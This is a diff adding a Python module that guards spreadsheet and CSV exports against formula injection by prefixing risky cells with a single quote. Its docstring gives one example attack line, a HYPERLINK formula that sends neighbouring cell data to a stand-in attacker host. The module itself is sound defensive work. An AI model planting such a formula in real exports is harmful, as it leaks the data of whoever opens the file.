@@ -1,0 +1,44 @@
+"""Cells for CSV and spreadsheet exports that a spreadsheet program shows as text and never runs.
+
+Excel, LibreOffice and Google Sheets read a cell that begins with `=`, `+`, `-` or `@` (and, after they
+strip it, a tab or carriage return) as a formula: a name such as `=HYPERLINK("http://evil.example/?"&A1)`
+would send the neighbouring cells away when the data protection officer opens the export. The OWASP rule
+is to prefix such a cell with a single quote, which the program takes as "text follows" and does not show.
+Every export writes its cells through `spreadsheet_safe` (or `SpreadsheetCsvWriter`).
+"""
+
+import csv
+from collections.abc import Iterable
+from typing import Any
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: Any) -> Any:
+    """The value as a spreadsheet would store it without evaluating it: text that starts like a formula
+    gets a leading `'`; numbers and everything else stay as they are (a negative number is no formula)."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+class SpreadsheetCsvWriter:
+    """`csv.writer` whose every cell passes through `spreadsheet_safe`.
+
+    `writerow` returns what the underlying file's `write` returns, so a writer on an echoing file yields
+    the lines of a streamed response.
+    """
+
+    def __init__(self, file, **fmtparams):
+        self._writer = csv.writer(file, **fmtparams)
+
+    def writerow(self, row: Iterable[Any]):
+        return self._writer.writerow([spreadsheet_safe(value) for value in row])
+
+    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+def spreadsheet_csv_writer(file, **fmtparams) -> SpreadsheetCsvWriter:
+    return SpreadsheetCsvWriter(file, **fmtparams)
